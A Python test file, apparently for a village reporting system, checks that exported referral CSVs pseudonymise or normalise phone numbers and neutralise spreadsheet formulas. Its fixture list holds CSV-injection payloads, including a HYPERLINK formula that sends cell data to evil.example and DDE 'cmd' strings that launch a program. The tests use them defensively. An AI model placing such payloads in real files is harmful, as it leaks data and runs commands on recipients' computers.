"""v2 reports name people and things ("terlibat" entries): tier B carries per-recipient
pseudonyms of the normalised identifiers, never the identifiers; tier C carries them E.164.
"""
from __future__ import annotations

import csv
import io
import zipfile

import forms
import pytest

from office.handover import verify

from .conftest import CANARY_TEXT, DESA_B, Seeded, move_to, zip_texts
from jaga_desa.testing.servers import OfficeServer
from tests.support import enroll as enroll_person

PHONE_AS_WRITTEN = "0812-7731 5599"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
PHONE_E164 = "+6281277315599"
HANDLE = "@kenari.calo"


def table(path, name):
    with zipfile.ZipFile(path) as z:
        return list(csv.DictReader(io.StringIO(z.read(f"{name}.csv").decode("utf-8"))))


@pytest.fixture(scope="module")
def v2(tmp_path_factory) -> Seeded:
    server = OfficeServer(tmp_path_factory.mktemp("ident") / "office").start()
    try:
        s = Seeded(server)
        server.admin(["add-village", "--code", DESA_B])
        from office import regions
        person, client = enroll_person(server, regions.get(DESA_B).name, "volunteer", "Relawan Kenari")
        s.people = {"p": person}
        answers = forms.load("keberangkatan_pmi", 2).example()
        answers["terlibat"] = [
            {"peran": "calo", "nama": f"Pak {CANARY_TEXT}", "telepon": PHONE_AS_WRITTEN, "akun_medsos": HANDLE},
            {"peran": "tekong", "kapal": f"KM {CANARY_TEXT} Jaya", "telepon": "+62 812 7731 5599"}]
        sealed = [seal_v2(person, answers) for _ in range(2)]
        hostile = dict(answers, tempat_berangkat=FORMULAS[0], catatan=FORMULAS[1],
                       terlibat=[{"peran": "calo", "nama": FORMULAS[2], "akun_medsos": FORMULAS[0],
                                  "telepon": "+62 812 7731 5599"}])
        formula = seal_v2(person, hostile)
        assert all(r["status"] == "accepted" for r in client.push([x.envelope for x in sealed + [formula]]))
        s.ids = {"v2": [x.envelope_id for x in sealed], "formula": [formula.envelope_id]}
        move_to(server.data_dir, s.ids["v2"] + s.ids["formula"], s.today)
        yield s
    finally:
        server.stop()


def seal_v2(person, answers):
    from sync import envelope as env
    form = forms.load("keberangkatan_pmi", 2)
    clean = form.check(answers)
    payload = {"answers": clean, "flags": form.flags(clean), "rahasia": False, "lang": "id"}
    return env.seal(payload, form_id=form.id, form_version=2, author_id=person.id, device_id=person.device_id,
                    signing_key=person.ed, recipients=[person.office_x()] + person.heads())


def test_tier_b_pseudonymises_each_identifier_per_recipient(v2, tmp_path):
    a = v2.export("B", tmp_path / "a.zip", "--recipient", "Polda Kaltara")
    b = v2.export("B", tmp_path / "b.zip", "--recipient", "BP3MI Kaltara")
    rows_a, rows_b = table(a, "identifiers"), table(b, "identifiers")
    phones = [r for r in rows_a if r["kind"] == "phone"]
    assert len(phones) == 5 and len({r["identifier_pid"] for r in phones}) == 1     # one number, one id
    assert {r["role"] for r in phones} == {"calo", "tekong"}
    assert not {r["identifier_pid"] for r in rows_a} & {r["identifier_pid"] for r in rows_b}
    reports = {r["report_pid"] for r in table(a, "reports")}
    assert {r["report_pid"] for r in rows_a} == reports
    for blob in zip_texts(a):
        for canary in (CANARY_TEXT, PHONE_E164, "7731 5599", "77315599", "kenari.calo"):   # 8 digits: a random hash never matches by chance
            assert canary.encode() not in blob
    assert verify(a)["rows"]["identifiers"] == len(rows_a)


def test_tier_c_gives_phone_numbers_in_e164(v2, tmp_path):
    out = v2.export("C", tmp_path / "c.zip", "--recipient", "Polres Nunukan", "--reason", "penyidikan",
                    "--report", v2.ids["v2"][0])
    phones = [r for r in table(out, "identifiers") if r["kind"] == "phone"]
    assert {r["value"] for r in phones} == {"'" + PHONE_E164}      # text in a spreadsheet, not a sum
    assert PHONE_AS_WRITTEN in {r["as_written"] for r in phones}
    reports = table(out, "reports")
    iso = [c for c in reports[0] if c.startswith("keberangkatan_pmi__negara_tujuan") and c.endswith("__iso3166")]
    assert iso and all(len(code) == 2 for r in reports for c in iso for code in r[c].split())


def test_tier_c_neutralises_formula_cells(v2, tmp_path):
    """Issue 22.6: what a volunteer (or someone feeding her) typed as =HYPERLINK(…), +cmd|,
    @SUM reaches the referral CSVs with the dashboard exports' leading apostrophe, in
    reports.csv and identifiers.csv; read back as a spreadsheet's CSV import would."""
    out = v2.export("C", tmp_path / "c.zip", "--recipient", "Polres Nunukan", "--reason", "penyidikan",
                    "--report", v2.ids["formula"][0])
    cells = [v for name in ("reports", "identifiers") for r in table(out, name) for v in r.values()]
    for f in FORMULAS:
        assert "'" + f in cells, f"{f!r} not neutralised"
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], "a cell a spreadsheet would run"
    phone = [r for r in table(out, "identifiers") if r["kind"] == "phone"]
    assert phone[0]["value"] == "'" + PHONE_E164 and phone[0]["as_written"] == "'+62 812 7731 5599"
    assert verify(out)["valid"]
